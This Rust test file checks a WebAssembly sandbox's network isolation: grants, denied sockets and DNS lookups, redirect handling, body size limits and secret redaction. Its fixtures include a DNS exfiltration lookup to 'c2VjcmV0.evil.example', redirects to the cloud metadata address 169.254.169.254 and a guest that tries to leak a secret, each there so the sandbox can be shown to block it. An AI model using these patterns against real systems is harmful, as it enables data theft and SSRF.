//! The same walls, seen from inside of a component.

use bytes::Bytes;
use checkrein_contract::interface::{Call, Cause, Mishap, Subgoal};
use checkrein_contract::port::{End, Execution, Guests as _, Ran, Setting};
use http_body_util::{BodyExt as _, Full};
use serde_json::json;
use tempfile::TempDir;
use wasmtime_wasi_http::WasiHttpHooks as _;

use super::server::{Piece, answer, ok, redirect};
use super::*;
use crate::testing::guest::network::{
    fetches, fetches_everywhere, gets_by_wasi_http, looks_up_a_name, opens_a_raw_tcp_socket,
    reads_the_environment,
};
use crate::testing::{Guest, places_in, ready};
use crate::{Options, Sandbox};

fn sandbox_with(secrets: Secrets) -> (Sandbox, TempDir) {
    let folder = tempfile::tempdir().unwrap();
    let options =
        Options { secrets, resolver: Arc::new(Names::default()), ..Options::new(places_in(&folder)) };
    (Sandbox::new(options, Arc::new(MemoryBlobs::default())).unwrap(), folder)
}

fn subgoal() -> Subgoal {
    Subgoal { id: "s".into(), goal: "g".into(), args: json!({}), evidence: Vec::new(), criteria: Vec::new() }
}

fn call() -> Call {
    Call { id: "c".into(), args: json!({}), attempt: 1, seed: 0, settings: json!({}) }
}

fn granting(mut setting: Setting, rules: &[String]) -> Setting {
    setting.granted.network = rules.iter().map(|rule| Rule::parse(rule).unwrap()).collect();
    setting
}

async fn executed(guest: &Guest, rules: &[String], limits: &[(LimitKey, u64)]) -> Ran<Execution> {
    let (sandbox, _folder) = sandbox_with(Secrets::default());
    let mut setting = granting(ready(&sandbox, guest), rules);
    for (key, value) in limits {
        setting.limits = setting.limits.with(*key, *value);
    }
    sandbox.execute(setting, call()).await
}

#[tokio::test]
async fn a_guest_fetches_what_it_was_granted() {
    let server = Server::start(|_| ok("hello")).await;
    let guest = fetches("POST", &server.url(), &[("x-a", "b")], "payload");
    let ran = executed(&guest, &[server.anything()], &[]).await;
    assert!(matches!(ran.end, End::Returned(Execution { result: Ok(_), .. })), "{ran:?}");
    assert_eq!(ran.log, "info: hello\n");
    let seen = server.one();
    assert_eq!((seen.header("x-a"), seen.body.as_slice()), (Some("b"), &b"payload"[..]));
    assert_eq!(ran.record.exchanges.len(), 1);
}

#[tokio::test]
async fn a_guest_without_a_grant_is_told_which_one_is_missing() {
    let server = Server::start(|_| ok("")).await;
    let ran = executed(&fetches("GET", &server.url(), &[], ""), &[], &[]).await;
    assert!(ran.log.starts_with("error: ") && ran.log.contains("network = [\"GET http://127"), "{}", ran.log);
    assert_eq!(ran.record.denials[0].wall, Wall::Network);
    assert!(server.seen().is_empty());
}

#[tokio::test]
async fn triggers_and_recoveries_have_no_network_whatever_is_granted() {
    let server = Server::start(|_| ok("")).await;
    let (sandbox, _folder) = sandbox_with(Secrets::default());
    let setting = granting(ready(&sandbox, &fetches_everywhere(&server.url())), &[server.anything()]);
    let ran = sandbox.assess(setting.clone(), subgoal()).await;
    assert!(ran.log.contains("nothing here may use the network"), "{ran:?}");
    assert_eq!(ran.record.denials[0].wall, Wall::Network);
    let mishap =
        Mishap { subgoal: subgoal(), call: call(), cause: Cause::Other("o".into()), earlier: Vec::new() };
    let ran = sandbox.recover(setting.clone(), mishap).await;
    assert!(ran.log.contains("nothing here may use the network"), "{ran:?}");
    assert!(server.seen().is_empty());
    let ran = sandbox.execute(setting, call()).await;
    assert!(ran.log.starts_with("info") && server.seen().len() == 1, "{ran:?}");
}

#[tokio::test]
async fn a_server_that_says_headers_and_then_nothing_ends_the_call_by_wall() {
    let head = b"HTTP/1.1 200 x\r\ncontent-length: 5\r\n\r\n".to_vec();
    for tail in [Piece::Silence, Piece::Drip] {
        let pieces = vec![Piece::Bytes(head.clone()), tail];
        let server = Server::start(move |_| pieces.clone()).await;
        let guest = fetches("GET", &server.url(), &[], "");
        let ran = executed(&guest, &[server.reading()], &[(LimitKey::Wall, 400)]).await;
        assert!(matches!(&ran.end, End::Limited(hit) if hit.limit == "wall"), "{ran:?}");
        assert!(ran.used.wall_ms < 10_000 && ran.used.cpu_ms < 400, "{ran:?}");
        let exchange = &ran.record.exchanges[0];
        assert!(exchange.error.is_some() && exchange.body.is_none(), "{exchange:?}");
    }
}

#[tokio::test]
async fn a_guest_sees_no_secret_and_cannot_say_it() {
    let secret = "s3cr3t-value";
    let server = Server::start(move |seen| {
        assert_eq!(seen.header("x-key"), Some("s3cr3t-value"));
        // Half of it comes back plain, the rest the guest knows by itself.
        ok("s3cr3t-")
    })
    .await;
    let (sandbox, _folder) = sandbox_with(Secrets::new([("KEY".to_owned(), secret.to_owned())]));
    let mut guest = fetches("GET", &server.url(), &[], "");
    let whole = guest.image.text("it is s3cr3t%2Dvalue");
    let content = guest.image.text("{\"stolen\": \"s3cr3t-value\"}");
    let outcome = guest.image.words(&[0, content[0], content[1], 0, 0, 0, 0]);
    guest.execute = format!(
        "(drop (block (result i32) {})) (call $write (i32.const 1) (i32.const {}) (i32.const {})) (i32.const {outcome})",
        guest.execute, whole[0], whole[1]
    );
    let mut setting = granting(ready(&sandbox, &guest), &[server.reading()]);
    setting.granted.secrets = Setup::default().using("KEY", "127.0.0.1", "x-key").uses;
    let ran = sandbox.execute(setting, call()).await;
    assert_eq!(ran.log, "info: s3cr3t-\ninfo: it is [secret KEY]\n");
    let End::Returned(Execution { result: Ok(outcome), .. }) = ran.end else { panic!("{ran:?}") };
    assert_eq!(outcome.content, json!({ "stolen": "[secret KEY]" }));
}

#[tokio::test]
async fn wasi_http_passes_the_same_gate() {
    let server = Server::start(|_| ok("hello")).await;
    let guest = gets_by_wasi_http(&format!("127.0.0.1:{}", server.port), "/a?b=1");
    let ran = executed(&guest, &[server.reading()], &[]).await;
    assert_eq!((ran.log.as_str(), ran.record.exchanges.len()), ("info: answered\n", 1), "{ran:?}");
    assert_eq!(server.one().line(), "GET /a?b=1 HTTP/1.1");
    let ran = executed(&guest, &[], &[]).await;
    assert_eq!((ran.log.as_str(), ran.record.denials[0].wall), ("error: denied\n", Wall::Network));
    let with_user = gets_by_wasi_http(&format!("me:pw@127.0.0.1:{}", server.port), "/");
    let ran = executed(&with_user, &[server.reading()], &[]).await;
    assert!(!matches!(ran.end, End::Fault(_)), "{ran:?}");
    assert_eq!(server.seen().len(), 1);
}

#[tokio::test]
async fn wasi_http_does_not_follow_redirects() {
    let server = Server::start(|_| redirect(302, "http://169.254.169.254/")).await;
    let guest = gets_by_wasi_http(&format!("127.0.0.1:{}", server.port), "/");
    let ran = executed(&guest, &[server.reading()], &[]).await;
    assert_eq!((ran.log.as_str(), ran.record.exchanges.len()), ("info: other\n", 1), "{ran:?}");
}

#[tokio::test]
async fn a_component_that_imports_wasi_http_loads() {
    let (sandbox, _folder) = sandbox_with(Secrets::default());
    let bytes = crate::testing::embedded(
        &gets_by_wasi_http("127.0.0.1:1", "/").assemble(),
        crate::testing::MANIFEST,
        crate::testing::CASES,
    );
    sandbox.load(crate::Source::Bytes { name: "wasi-http.wasm".into(), bytes }).await.unwrap();
}

fn outgoing(call: super::Call) -> wasi_http::Outgoing {
    let limits = Limits::default().with(LimitKey::HttpOut, 1_000);
    wasi_http::Outgoing::new(Arc::new(call.gate), &limits, call.recorder)
}

#[tokio::test]
async fn wasi_http_hands_bodies_on_whole_and_stops_reading_what_is_too_large() {
    let server = Server::start(|seen| answer(200, &[("x-got", "y")], &seen.body)).await;
    let setup = Setup::granting(&[server.anything()]).limited(LimitKey::HttpOut, 1_000);
    let call = setup.call();
    let recorder = call.recorder.clone();
    let mut hooks = outgoing(call);
    let request = |size: usize| {
        let body = Full::new(Bytes::from(vec![b'x'; size])).map_err(|never| match never {}).boxed_unsync();
        http::Request::post(server.url()).header("content-length", size.to_string()).body(body).unwrap()
    };
    let sent = hooks.send_request(request(100), None, Box::new(std::future::ready(Ok(()))));
    let (response, _) = Box::into_pin(sent).await.unwrap();
    assert_eq!(response.headers()["x-got"], "y");
    assert_eq!(response.into_body().collect().await.unwrap().to_bytes(), vec![b'x'; 100]);
    let sent = hooks.send_request(request(100_000), None, Box::new(std::future::ready(Ok(()))));
    assert!(Box::into_pin(sent).await.is_err());
    assert_eq!((recorder.take().denials[0].wall, server.seen().len()), (Wall::Limit, 1));
}

#[tokio::test]
async fn many_bodies_at_once_fill_no_more_than_the_limit() {
    let server = Server::start(|_| vec![Piece::Silence]).await;
    let call = Setup::granting(&[server.anything()]).call();
    let recorder = call.recorder.clone();
    let mut hooks = outgoing(call);
    let mut refused = 0;
    for _ in 0..100 {
        // What was written is there, and the rest never comes.
        let part = unfinished(vec![b'x'; 100]);
        let request = http::Request::post(server.url()).body(part).unwrap();
        let mut sent = Box::into_pin(hooks.send_request(request, None, Box::new(std::future::ready(Ok(())))));
        refused += usize::from(tokio::time::timeout(Duration::ZERO, &mut sent).await.is_ok());
    }
    assert_eq!(refused, 90);
    assert_eq!(recorder.take().denials[0].wall, Wall::Limit);
    assert!(server.seen().is_empty());
}

/// A body that is written in part and never to its end.
fn unfinished(bytes: Vec<u8>) -> wasmtime_wasi_http::WasiBody {
    type Trailers = Option<Result<http::HeaderMap, std::convert::Infallible>>;
    let body = Full::new(Bytes::from(bytes)).with_trailers(std::future::pending::<Trailers>());
    body.map_err(|never| match never {}).boxed_unsync()
}

#[tokio::test]
async fn wasi_http_sets_no_header_of_the_host() {
    let call = Setup::default().call();
    let mut hooks = outgoing(call);
    let forbidden = hooks.forbidden_header_filter();
    for name in ["host", "connection", "transfer-encoding", "proxy-authorization", "te", "expect", "upgrade"]
    {
        assert!(forbidden(&http::HeaderName::from_static(name)), "{name}");
    }
    for name in ["content-length", "authorization", "accept", "x-a"] {
        assert!(!forbidden(&http::HeaderName::from_static(name)), "{name}");
    }
}

#[tokio::test]
async fn a_raw_socket_is_refused_and_recorded() {
    let ran = executed(&opens_a_raw_tcp_socket(), &["https://a.org".into()], &[]).await;
    assert!(matches!(ran.end, End::Returned(_)), "{ran:?}");
    let [denial] = ran.record.denials.as_slice() else { panic!("{ran:?}") };
    assert!(denial.wall == Wall::Socket && denial.what.contains("a TCP socket (IPv4)"), "{denial:?}");
}

#[tokio::test]
async fn a_name_lookup_is_refused_and_recorded() {
    let ran = executed(&looks_up_a_name("c2VjcmV0.evil.example"), &["https://a.org".into()], &[]).await;
    assert!(matches!(ran.end, End::Returned(_)), "{ran:?}");
    let [denial] = ran.record.denials.as_slice() else { panic!("{ran:?}") };
    assert!(denial.wall == Wall::Socket && denial.what.contains("c2VjcmV0.evil.example"), "{denial:?}");
}

#[tokio::test]
async fn the_environment_is_empty() {
    assert!(std::env::vars_os().next().is_some());
    let ran = executed(&reads_the_environment(), &[], &[]).await;
    assert!(matches!(ran.end, End::Returned(_)), "{ran:?}");
}

#[tokio::test]
async fn the_hosts_own_downloads_pass_the_same_gate() {
    let server = Server::start(|seen| match seen.line() {
        "GET /file HTTP/1.1" => ok("contents"),
        "GET /moved HTTP/1.1" => redirect(302, "http://169.254.169.254/"),
        _ => answer(404, &[], b""),
    })
    .await;
    let (sandbox, _folder) = sandbox_with(Secrets::default());
    let rules = [Rule::parse(&server.reading()).unwrap()];
    let limits = Limits::default();
    let url = |path: &str| format!("{}/{path}", server.url());
    let (body, record) = sandbox.download(&url("file"), &rules, &limits).await;
    assert_eq!((&body.unwrap()[..], record.exchanges.len()), (&b"contents"[..], 1));
    let (body, _) = sandbox.download(&url("none"), &rules, &limits).await;
    assert!(matches!(body, Err(DownloadError::Status { status: 404, .. })), "{body:?}");
    let (body, record) = sandbox.download(&url("moved"), &rules, &limits).await;
    assert!(matches!(body, Err(DownloadError::Denied(_))) && record.denials.len() == 1, "{body:?}");
    let (body, _) = sandbox.download(&url("file"), &[], &limits).await;
    assert!(matches!(body, Err(DownloadError::Denied(_))), "{body:?}");
    let (body, _) = sandbox.download(&url("file"), &rules, &limits.clone().with(LimitKey::HttpIn, 3)).await;
    assert!(matches!(body, Err(DownloadError::TooLarge { bytes: 3, .. })), "{body:?}");
    let named = [Rule::parse("http://files.example").unwrap()];
    let (body, _) = sandbox.download("http://files.example/x", &named, &limits).await;
    assert!(matches!(&body, Err(DownloadError::Denied(why)) if why.contains("only https")), "{body:?}");
}

#[tokio::test]
async fn a_download_that_is_redirected_to_a_name_in_the_clear() {
    let server = Server::start(|_| redirect(302, "http://files.example/x")).await;
    let (sandbox, _folder) = sandbox_with(Secrets::default());
    let rules = [server.reading().as_str(), "http://files.example"].map(|rule| Rule::parse(rule).unwrap());
    let (body, record) = sandbox.download(&server.url(), &rules, &Limits::default()).await;
    assert!(matches!(&body, Err(DownloadError::Denied(why)) if why.contains("only https")), "{body:?}");
    assert_eq!((record.exchanges.len(), record.denials.len()), (1, 1), "{record:?}");
}
